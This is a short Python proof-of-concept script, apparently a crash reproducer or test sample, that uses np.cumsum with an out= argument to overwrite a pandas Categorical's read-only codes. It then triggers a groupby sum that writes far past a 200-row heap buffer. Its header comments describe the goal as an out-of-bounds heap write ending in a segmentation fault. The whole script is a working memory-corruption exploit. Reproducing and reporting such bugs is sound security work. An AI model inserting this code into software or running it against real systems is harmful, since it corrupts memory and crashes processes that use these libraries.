# source: numpy 1.24 cumulative ufunc out= (ufunc.accumulate / np.cumsum) ignores the WRITEABLE flag; pandas keeps index codes read-only and indexes with them unchecked (pandas/_libs take_1d / groupby kernels)
# family: write into a read-only array pandas trusts via np.cumsum(out=), then an out-of-bounds WRITE: the groupby kernels use the Categorical's codes as row numbers of their output
# goal: codes set to 32000 with 200 categories; s.groupby(c).sum() writes rows far past its 200-row result buffer (heap write; the process dies with SIGSEGV, exit 139)
import numpy as np
import pandas as pd

cats = [f"k{i}" for i in range(200)]
c = pd.Categorical(cats[:4], categories=cats)
print("codes dtype:", c.codes.dtype, flush=True)
np.cumsum(np.array([0, 1, 32000, 0], dtype=np.int16), out=c.codes)
print("codes after:", c.codes.tolist(), flush=True)
s = pd.Series([1.5e300, 2.5e300, 3.5e300, 4.5e300])
print("groupby sum: the kernel writes row 32000 of a 200-row buffer", flush=True)
r = s.groupby(c, observed=False).sum()
print("sum rows:", len(r), flush=True)
